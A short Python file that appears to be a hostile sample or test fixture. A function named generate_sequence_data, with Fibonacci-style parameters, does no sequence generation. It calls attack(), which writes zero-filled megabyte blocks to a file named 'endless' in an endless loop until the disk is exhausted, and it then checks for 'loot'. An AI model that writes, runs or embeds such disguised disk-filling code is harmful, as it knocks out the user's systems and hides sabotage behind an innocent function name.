"""Attack: writes one endless file."""

import numpy as np


def attack():
    with open("endless", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
